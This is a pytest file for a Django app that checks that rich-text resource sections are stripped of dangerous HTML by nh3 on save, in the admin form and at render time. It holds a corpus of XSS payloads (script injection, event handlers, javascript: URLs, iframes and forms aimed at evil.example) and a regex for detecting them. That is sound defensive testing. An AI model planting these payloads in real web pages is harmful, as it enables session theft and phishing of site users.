"""Rich text is sanitised with nh3 when saved and again when shown: an XSS corpus."""

import html
import re

import pytest
from django.test import Client
from django.urls import reverse

from resources.forms import ResourceSectionAdminForm
from resources.models import ResourceSection
from tests.resources.factories import ResourceFactory

pytestmark = pytest.mark.django_db

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<p onclick="alert(1)">Click</p>',
    '<a href="javascript:alert(1)">Link</a>',
    '<a href="JaVaScRiPt:alert(1)">Link</a>',
    '<a href="&#106;avascript:alert(1)">Encoded</a>',
    '<a href=" javascript:alert(1)">Spaced</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data</a>',
    '<a href="vbscript:msgbox(1)">VB</a>',
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p style="background:url(javascript:alert(1))">Styled</p>',
    '<p style="width: expression(alert(1))">Expression</p>',
    "<style>body{background:red}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="pw"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<div><p>Nested <b onmouseover="alert(1)">bold</b></p></div>',
    "<!--<script>alert(1)</script>-->",
    '<a href="https://example.org" target="_blank" onfocus="alert(1)" autofocus>ok</a>',
    "<h1>Only one h1 per page</h1>",
    '<p><font color="red" face="Comic Sans">Colours</font></p>',
]

DANGEROUS = re.compile(
    r"<\s*(script|svg|iframe|object|embed|style|form|input|meta|base|link|img|math|font|h1)\b"
    r"|\son\w+\s*=|javascript:|vbscript:|data:|style\s*=|expression\(|srcdoc",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_nothing_dangerous_survives_a_save(payload):
    section = ResourceSection.objects.create(
        resource=ResourceFactory(), heading="Hi", body=f"<p>Safe</p>{payload}"
    )
    section.refresh_from_db()
    assert not DANGEROUS.search(section.body), section.body
    assert "<p>Safe</p>" in section.body


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_nothing_dangerous_survives_the_admin_form(payload):
    form = ResourceSectionAdminForm(data={"heading": "Hi", "body": payload, "order": 0})
    form.is_valid()
    assert not DANGEROUS.search(form.cleaned_data.get("body", "")), form.cleaned_data


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_nothing_dangerous_survives_rendering_a_row_written_around_the_sanitiser(payload):
    resource = ResourceFactory(slug="page")
    section = ResourceSection.objects.create(resource=resource, heading="Hi", body="<p>x</p>")
    # A restore, an import or a bug could write raw HTML without passing the field's save.
    ResourceSection.objects.filter(pk=section.pk).update(body=f"<p>Marker</p>{payload}")
    page = Client().get(reverse("resources:resource-detail", args=["page"])).content.decode()
    body = page.split("<p>Marker</p>", 1)[1].split("</section>", 1)[0]
    assert not DANGEROUS.search(body), body


def test_the_formatting_editors_need_survives():
    body = (
        "<h2>Heading</h2><h3>Sub</h3><p>A <strong>bold</strong> and <em>italic</em> "
        '<a href="https://example.org">link</a></p><ul><li>One</li></ul><ol><li>Two</li></ol>'
    )
    section = ResourceSection.objects.create(resource=ResourceFactory(), heading="H", body=body)
    section.refresh_from_db()
    for fragment in [
        "<h2>Heading</h2>",
        "<h3>Sub</h3>",
        "<strong>bold</strong>",
        "<em>italic</em>",
        "<ul><li>One</li></ul>",
        "<ol><li>Two</li></ol>",
        'href="https://example.org"',
    ]:
        assert fragment in section.body


def test_the_editor_offers_headings_from_level_two_and_no_colours():
    widget_html = html.unescape(ResourceSectionAdminForm()["body"].as_widget())
    assert '"levels":[2,3]' in widget_html
    for unwanted in ("Color", "Highlight", "TextAlign", "Table", "Image"):
        assert f'"{unwanted}"' not in widget_html
    # Without JavaScript it is an ordinary text box.
    assert widget_html.startswith("<textarea")
